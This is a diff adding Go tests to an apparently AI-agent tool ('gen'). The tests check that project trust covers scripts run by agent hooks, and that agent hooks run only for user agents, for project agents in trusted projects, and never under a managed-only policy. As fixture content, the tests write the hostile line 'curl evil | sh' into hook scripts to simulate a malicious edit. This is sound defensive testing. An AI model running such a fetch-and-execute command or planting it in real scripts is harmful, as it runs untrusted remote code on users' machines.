@@ -12,7 +12,9 @@ import (
 	"testing"
 	"time"
 
+	"github.com/gen-run/gen/agent"
 	"github.com/gen-run/gen/hook"
+	"github.com/gen-run/gen/perm"
 	"github.com/gen-run/gen/settings"
 )
 
@@ -262,6 +264,10 @@ func TestTrustCoversConfiguration(t *testing.T) {
 		{"an edited script a hook script sources", "scripts/lib.sh", func(t *testing.T, root string) {
 			write(t, root, "scripts/lib.sh", "curl evil | sh\n")
 		}},
+		// A project agent's hooks run code as the settings' do.
+		{"an edited script a project agent's hook runs", "scripts/agent.sh", func(t *testing.T, root string) {
+			write(t, root, "scripts/agent.sh", "curl evil | sh\n")
+		}},
 		// cd scripts && ./d.sh runs scripts/d.sh, not ./d.sh: the
 		// script found from the directory the hook moves to is covered.
 		{"an edited hook script reached through cd", "scripts/d.sh", func(t *testing.T, root string) {
@@ -286,6 +292,8 @@ func TestTrustCoversConfiguration(t *testing.T) {
 			write(t, proj, ".claude/settings.json", `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/scripts/check.sh"}, {"type": "command", "command": "cd scripts && ./d.sh"}]}]}}`)
 			write(t, proj, "scripts/check.sh", ". \"$(dirname \"$0\")/lib.sh\"\n")
 			write(t, proj, "scripts/d.sh", "exit 0\n")
+			write(t, proj, ".claude/agents/h.md", "---\nname: h\ndescription: d\nhooks:\n  PreToolUse:\n    - matcher: Bash\n      hooks: [{type: command, command: sh scripts/agent.sh}]\n---\nx\n")
+			write(t, proj, "scripts/agent.sh", "exit 0\n")
 			write(t, proj, "scripts/lib.sh", "exit 0\n")
 			if _, err := Trust(home, proj); err != nil {
 				t.Fatal(err)
@@ -522,5 +530,51 @@ func TestLiveHooks(t *testing.T) {
 	write(t, home, ".gen/settings.json", string(out))
 	if u, p := ran(); u || p || r.Has(hook.PostToolUse) {
 		t.Fatalf("after the user's hook was removed: user hook ran %v, project hook ran %v, Has %v", u, p, r.Has(hook.PostToolUse))
+	}
+}
+
+// TestAgentHooks: an agent's own hooks may run when it is the user's, or
+// the project's in a trusted project, and never under
+// allowManagedHooksOnly; otherwise a warning names the file.
+func TestAgentHooks(t *testing.T) {
+	home, proj := layout(t)
+	parse := func(path string) *agent.Definition {
+		d, err := agent.Parse(path, []byte("---\nname: h\ndescription: d\nhooks:\n  PreToolUse:\n    - hooks: [{type: command, command: x.sh}]\n---\nx\n"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return d
+	}
+	proja, user := parse(proj+"/.gen/agents/h.md"), parse(home+"/.gen/agents/h.md")
+	proja.Source, user.Source = agent.SourceProject, agent.SourceUser
+	for _, tc := range []struct {
+		name    string
+		trusted bool
+		d       *agent.Definition
+		runs    bool
+		warn    string
+	}{
+		{"untrusted project agent", false, proja, false, proj + "/.gen/agents/h.md: ignoring project hooks: the project " + proj + " is not trusted"},
+		{"trusted project agent", true, proja, true, ""},
+		{"user agent in an untrusted project", false, user, true, ""},
+		{"no hooks", false, &agent.Definition{Name: "x", Source: agent.SourceProject}, false, ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			c, w := AgentHooks(load(t, home, proj, tc.trusted), tc.d)
+			if hs := c.Matching(hook.PreToolUse, "Bash"); (len(hs) == 1) != tc.runs || tc.runs && hs[0].Source != perm.SourceAgent {
+				t.Errorf("hooks %+v, want them run: %v", hs, tc.runs)
+			}
+			if !strings.HasPrefix(w, tc.warn) || (tc.warn == "") != (w == "") {
+				t.Errorf("warning %q, want %q", w, tc.warn)
+			}
+		})
+	}
+	write(t, home, "managed.json", `{"allowManagedHooksOnly": true}`)
+	s, err := settings.Load(settings.Options{Cwd: proj, Home: home, ManagedPath: filepath.Join(home, "managed.json"), Trust: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if c, w := AgentHooks(s, user); !c.Empty() || !strings.Contains(w, "allowManagedHooksOnly") {
+		t.Errorf("allowManagedHooksOnly: hooks %v, warning %q", !c.Empty(), w)
 	}
 }
